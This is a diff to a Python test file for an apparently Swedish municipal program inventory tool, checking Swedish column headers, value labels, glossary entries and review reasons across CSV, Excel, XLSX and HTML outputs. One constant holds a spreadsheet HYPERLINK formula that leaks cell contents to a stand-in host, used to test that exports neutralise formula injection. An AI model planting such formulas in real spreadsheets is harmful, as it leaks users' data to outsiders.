@@ -8,7 +8,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from inventory import changes, outputs, stats
+from inventory import changes, outputs, stats, swedish
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Näringslivsprogram")'
 
@@ -70,10 +70,38 @@ def test_write_csv_contract_file_and_excel_variant(tmp_path: Path) -> None:
     assert excel.startswith(b"\xef\xbb\xbf") and b"\r\n" in excel
     excel_rows = read_rows(tmp_path / "inventory.excel.csv", encoding="utf-8-sig", delimiter=";")
     excel_cell = dict(zip(excel_rows[0], excel_rows[1], strict=True))
-    assert excel_cell["confidence"] == "0,91" and excel_cell["name"] == "Upplands Väsby"
-    assert excel_cell["program_title"] == "'" + HOSTILE
-    # Both files hold the same table.
-    assert [r[:3] for r in rows] == [r[:3] for r in excel_rows]
+    assert excel_cell["Säkerhet (modell)"] == "0,91" and excel_cell["Kommun"] == "Upplands Väsby"
+    assert excel_cell["Programmets titel"] == "'" + HOSTILE
+    # Both files hold the same table: Swedish headers, words and SANT/FALSKT for people, codes in the contract.
+    assert excel_rows[0] == [outputs.SWEDISH_HEADERS.get(c, c) for c in header]
+    assert [r[:3] for r in rows[1:]] == [r[:3] for r in excel_rows[1:]]
+    assert [r[3] for r in excel_rows[1:]] == ["Program hittat", "Inget program hittat", "Program hittat"]
+    assert (excel_cell["Gällande"], dict(zip(excel_rows[0], excel_rows[2], strict=True))["Gällande"]) == (
+        "SANT", "FALSKT")
+
+
+def test_people_read_swedish_words_and_programs_read_codes(tmp_path: Path) -> None:
+    table = pd.DataFrame({
+        "status": ["program_found", "site_unreachable"], "program_type": ["tillvaxt", None],
+        "regional_category": ["rus", None], "found_via": ["search", None], "crawl_status": ["found", "weird"],
+        "review_reasons": ["is_program 0.58; sustainability 0.46", None],
+    })  # fmt: skip
+    people = swedish.for_people(table)
+    assert people.iloc[0].tolist() == ["Program hittat", "Tillväxtprogram/-strategi",
+                                       "Regional utvecklingsstrategi (RUS)", "Sökrutan", "Kandidat hittad",
+                                       "Är ett program 0,58; Hållbarhet betonas 0,46"]
+    assert people.iloc[1]["crawl_status"] == "weird"  # an unknown code is shown, not lost
+    assert table["status"].tolist() == ["program_found", "site_unreachable"]  # the input is not changed
+    outputs.write_csv(table, tmp_path / "t.csv")
+    assert read_rows(tmp_path / "t.csv")[1][:2] == ["program_found", "tillvaxt"]
+    # Every word in the glossary, next to its code.
+    glossary = outputs.glossary({"Inventering": people})
+    pairs = {(section, term, code) for section, _, term, code, _ in glossary.itertuples(index=False)}
+    for column, section in swedish.VALUE_SECTIONS.items():
+        for code, word in swedish.VALUE_LABELS[column].items():
+            assert (section, word, code) in pairs, (section, code)
+    for code, word in swedish.REVIEW_LABELS.items():
+        assert ("Skäl att granska", word, code) in pairs
 
 
 def test_write_xlsx_reopens_with_the_same_data(tmp_path: Path) -> None:
@@ -202,3 +230,19 @@ def test_every_status_and_override_field_has_an_explanation() -> None:
     missing = sorted({*overrides.FIELDS, *overrides.PROVENANCE_COLUMNS} - set(outputs.COLUMNS))
     assert not missing, f"columns an override can add but the glossary cannot explain: {missing}"
     assert all(header and text for header, text in outputs.COLUMNS.values())
+
+
+def test_review_reasons_reach_every_output(tmp_path: Path) -> None:
+    swedish_reasons = "Är ett program 0,58; Hållbarhet betonas 0,46"
+    tables = pipeline_tables()
+    tables["inventory"] = tables["inventory"].assign(
+        needs_review=pd.array([True], dtype="boolean"), review_reasons=["is_program 0.58; sustainability 0.46"])
+    outputs.write_outputs(tmp_path, **tables, year=2025)
+    header, row = read_rows(tmp_path / "inventory.csv")
+    assert dict(zip(header, row, strict=True))["review_reasons"] == "is_program 0.58; sustainability 0.46"
+    header, row = read_rows(tmp_path / "inventory.excel.csv", encoding="utf-8-sig", delimiter=";")
+    assert dict(zip(header, row, strict=True))["Skäl att granska"] == swedish_reasons
+    sheet = openpyxl.load_workbook(tmp_path / "inventory.xlsx")["Inventering"]
+    rows = [[c.value for c in r] for r in sheet.iter_rows()]
+    assert dict(zip(rows[0], rows[1], strict=True))["Skäl att granska"] == swedish_reasons
+    assert swedish_reasons in (tmp_path / "report.html").read_text(encoding="utf-8")
